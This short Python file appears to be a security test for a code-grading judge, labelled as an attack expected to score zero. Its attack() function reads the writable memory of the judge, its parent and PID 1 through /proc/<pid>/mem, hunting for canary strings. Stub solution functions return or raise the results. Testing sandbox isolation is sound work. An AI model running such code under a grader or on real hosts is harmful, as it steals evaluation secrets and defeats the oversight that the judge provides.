# Attack: opens the memory of the judge and of its parent.
# score: 0
# ruff: noqa

import os
import re


def attack():
    found = []
    for process in ("@@JUDGE@@", "@@ZYGOTE@@", os.getppid(), 1):
        try:
            with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "rb") as memory:
                for line in maps:
                    if "rw-p" in line:
                        first, last = (int(part, 16) for part in line.split()[0].split("-"))
                        memory.seek(first)
                        found += re.findall(rb"canary-[0-9a-f]{24}", memory.read(last - first))
        except OSError as error:
            found.append(repr(error))
    return found


def double(x):
    raise RuntimeError(str(attack()))


def minimize(start, learning_rate=0.1, num_iterations=10):
    found = attack()
    print(found)
    return str(found)


def make_model():
    return str(attack())
